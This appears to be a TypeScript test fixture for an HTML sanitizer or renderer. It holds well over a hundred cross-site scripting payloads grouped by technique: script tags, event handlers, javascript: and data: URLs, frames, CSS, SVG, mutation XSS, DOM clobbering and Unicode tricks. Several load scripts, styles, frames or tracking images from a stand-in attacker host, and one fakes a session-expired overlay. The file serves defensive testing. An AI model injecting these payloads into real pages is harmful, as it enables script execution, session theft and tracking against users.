/**
 * Payloads short enough for a title. `alert(1)` becomes `alert(<its number>)`, so that a running
 * one can be identified.
 */

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script\n>alert(1)</script\t>',
  '<script/type=module>alert(1)</script>',
  '<script src=https://evil.example/a.js></script>',
  '<script src="//evil.example/b.js"></script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<p><script>alert(1)',
  '"><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '","x":"</script><script>alert(1)</script>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e<script>alert(1)</script>',
  '--></script><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<!--<script>--><script>alert(1)</script>',
  '{"@type":"Thing"}</script><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(1)</script>',
  '<script nonce>alert(1)</script>',
  '<script type="application/ld+json"></script><script>alert(1)</script>',
]

const HANDLERS = [
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img/src=x/onerror=alert(1)//>',
  '<img src=x onerror="&#97;lert(1)">',
  '<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>',
  '<img src=x onerror=alert`1`>',
  "<img src=x onerror=\"window['al'+'ert'](1)\">",
  '<img src=x onerror\u000c=\u000calert(1)>',
  '<img alt="a" src=x:alert(1) onerror=eval(src)>',
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '`><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<select autofocus onfocus=alert(1)></select>',
  '<p tabindex=0 autofocus onfocus=alert(1)>a</p>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<p onpointerrawupdate=alert(1) onpointerenter=alert(1)>a</p>',
  '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=alert(1)>a</p>',
  '<p style="transition:color 1s" ontransitionend=alert(1)>a</p>',
  '<p contenteditable onbeforeinput=alert(1) onpaste=alert(1)>a</p>',
  '<p popover id=v onbeforetoggle=alert(1)>a</p><button popovertarget=v>b</button>',
  '<a href="/faq" onclick="alert(1)" onauxclick="alert(1)">a</a>',
  '<img src=x alt="a"onerror=alert(1)>',
  '<p/onscrollend=alert(1)/style="overflow:scroll">a</p>',
]

const ADDRESSES = [
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JAVASCRIPT:alert(1)">a</a>',
  '<a href=" \u0001\u001fjavascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java\r\nscript:alert(1)">a</a>',
  '<a href="java&Tab;script&colon;alert(1)">a</a>',
  '<a href="&#106;&#0000097vascript:alert(1)">a</a>',
  '<a href="javascript://%0aalert(1)">a</a>',
  '<a href="view-source:javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="vbscript:MsgBox(1)">a</a>',
  '<a href="blob:https://evil.example/1">a</a>',
  '<a href="//evil.example/a">a</a>',
  '<a href="/\\evil.example/a">a</a>',
  '<a href="/\t/evil.example/a">a</a>',
  '<a href="\\\\evil.example/a" ping="https://evil.example/ping">a</a>',
  '<img alt="a" src="javascript:alert(1)">',
  '<img alt="a" src="https://evil.example/seen.png">',
  '<img alt="a" srcset="https://evil.example/seen.png 1x">',
  '<img alt="a" src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>">',
  '<form action="javascript:alert(1)"><button autofocus>a</button></form>',
  '<form id=w></form><button form=w formaction="javascript:alert(1)">a</button>',
  '<table background="https://evil.example/seen.png"><tr><td>a</td></tr></table>',
]

const FRAMES = [
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe onload=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html,<script>parent.alert(1)</script>"></object>',
  '<embed src="https://evil.example/embed">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/away">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<link rel=prefetch href="https://evil.example/a"><link rel=preconnect href=//evil.example>',
  '<portal src="https://evil.example/"></portal><fencedframe></fencedframe>',
]

const STYLES = [
  '<style>@import "https://evil.example/a.css";</style>',
  '<style>*{background:url(https://evil.example/seen)}</style>',
  '<style>@font-face{font-family:a;src:url(//evil.example/f)}p{font-family:a}</style><p>a</p>',
  '<p style="background:url(https://evil.example/seen)">a</p>',
  '<p style="position:fixed;inset:0;z-index:9999;background:#fff">Votre session a expiré</p>',
  '<p style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.example)">a</p>',
  '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<p style="list-style-image:u\\72l(https://evil.example/seen)">a</p>',
]

const DRAWINGS = [
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a><text>a</text><set attributeName=href to="javascript:alert(1)"/></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x"/></svg>',
  '<svg><image href="https://evil.example/seen.png" onload=alert(1)/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"/></foreignObject></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><rect width=9 height=9 /></a></svg>',
]

/** Mutation XSS: safe when parsed once, unsafe after serialising and parsing again. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>',
  '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>',
  '<svg><desc><noembed></desc></svg><img src=x onerror=alert(1)>',
  '<template><style></template><img src=x onerror=alert(1)></style>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<table><a href="</table><img src=x onerror=alert(1)>">a</a></table>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<?pi <img src=x onerror=alert(1)> ?>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<p id="&lt;img src=x onerror=alert(1)&gt;" title=\'"><img src=x onerror=alert(1)>\'>a</p>',
  '<a><b><p></a><svg><title><p><style><!--</style></title></svg><img src=x onerror=alert(1)>-->',
]

/** DOM clobbering of names that the page's scripts use. */
const NAMES = [
  '<img name=getElementById src=x alt=a>',
  '<form id=document><input name=cookie><input id=body></form>',
  '<a id=__reactRouterContext href="https://evil.example/">a</a>',
  '<a id=config name=url href="https://evil.example/">a</a><a id=config>b</a>',
  '<form name=attributes><input name=attributes></form>',
  '<p id=__proto__ class=constructor name=toString>a</p>',
]

const CHARACTERS = [
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e<b onclick=alert(1)>a</b>',
  '<\u017fcript>alert(1)</\u017fcript><i onclick=alert(1)>a</i>',
  '<img src=x \u00a0onerror=alert(1)>',
  '\u202e<img src=x onerror=alert(1)>\u202c',
  '<img\u200b src=x onerror=alert(1)><img src=x onerror=alert(1)>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-<u onclick=alert(1)>a</u>',
  '\u2028<script>alert(1)</script>\u2029',
  '[a](javascript:alert(1)) ![a](x" onerror="alert(1)) <javascript:alert(1)><q onclick=alert(1)>a</q>',
  '${alert(1)}{{constructor.constructor("alert(1)")()}}<s onclick=alert(1)>a</s>',
  "$& $` $' $1 $<a></script><script>alert(1)</script>",
]

export const MARKUP: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...FRAMES,
  ...STYLES,
  ...DRAWINGS,
  ...MUTATIONS,
  ...NAMES,
  ...CHARACTERS,
].map((text, index) => text.replaceAll('alert(1)', `alert(${index})`))

/** Splits a list into groups, for pages and texts that contain several payloads. */
export function inGroups<T>(all: readonly T[], size: number): T[][] {
  return Array.from({ length: Math.ceil(all.length / size) }, (_, at) =>
    all.slice(at * size, (at + 1) * size),
  )
}
